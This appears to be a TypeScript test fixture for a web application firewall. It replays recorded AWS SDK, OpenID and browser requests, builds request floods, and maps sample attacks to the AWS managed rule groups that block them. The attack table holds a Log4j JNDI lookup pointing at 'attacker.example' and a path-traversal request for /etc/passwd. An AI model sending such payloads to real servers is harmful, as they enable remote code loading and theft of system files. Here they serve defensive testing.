import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Request, request } from './request';

type Recorded = Pick<Request, 'method' | 'path' | 'headers' | 'bodyBytes'> & { readonly client: string };

/**
 * Requests as real clients sent them to a server on loopback: AWS's SDK (its calls of a user pool), openid-client (the exchange
 * of a code) and Chromium (pages, forms and fetches). Headers that a web firewall of ours does not look at are left out.
 */
export const recorded: readonly Recorded[] = JSON.parse(
  readFileSync(join(__dirname, 'recorded.json'), 'utf8'),
);

/** The recorded requests of a path or an operation of a pool, spread evenly over time at so many in five minutes. */
export function flood(
  what: string,
  perWindow: number,
  seconds: number,
  different: Partial<Request> = {},
): Request[] {
  const [found] = like(what);
  if (found === undefined) throw new Error(`no recorded request is like ${what}`);
  const count = Math.floor((perWindow * seconds) / 300);
  return Array.from({ length: count }, (_, n) =>
    request({ ...found, at: (n * seconds) / count, ...different }),
  );
}

/** The recorded requests whose path, or whose operation, is this; of a page the form that was sent. */
export function like(what: string): Recorded[] {
  return recorded.filter(({ path, method, headers }) =>
    what.startsWith('/')
      ? path === what && (method === 'POST' || !what.startsWith('/login'))
      : headers['x-amz-target'] === `AWSCognitoIdentityProviderService.${what}`,
  );
}

const bad = (group: string, different: Partial<Request>) =>
  request({ managed: { [group]: 'block' }, ...different });

/** What attackers send, and which of AWS's groups says it stops it: the name of the group is from AWS's documentation. */
export const attacks: Readonly<Record<string, Request>> = {
  'a lookup by Log4j in a header': bad('AWSManagedRulesKnownBadInputsRuleSet', {
    headers: { 'user-agent': '${jndi:ldap://attacker.example/a}' },
  }),
  'SQL in the query': bad('AWSManagedRulesSQLiRuleSet', { path: '/products' }),
  'a script in the query': bad('AWSManagedRulesCommonRuleSet', { path: '/search' }),
  'a file outside of the root': bad('AWSManagedRulesCommonRuleSet', { path: '/../../etc/passwd' }),
  'an address of ill repute': bad('AWSManagedRulesAmazonIpReputationList', {}),
  'an address that hides who it is': bad('AWSManagedRulesAnonymousIpList', {}),
  'a body that begins with 20 KB of nothing': request({
    method: 'POST',
    path: '/api/orders',
    bodyBytes: 20_480,
  }),
};

/** The label by which AWS marks addresses of machines that took part in floods, without stopping them. */
export const odd = {
  managed: {
    AWSManagedRulesAmazonIpReputationList: ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList'],
  },
} as const;
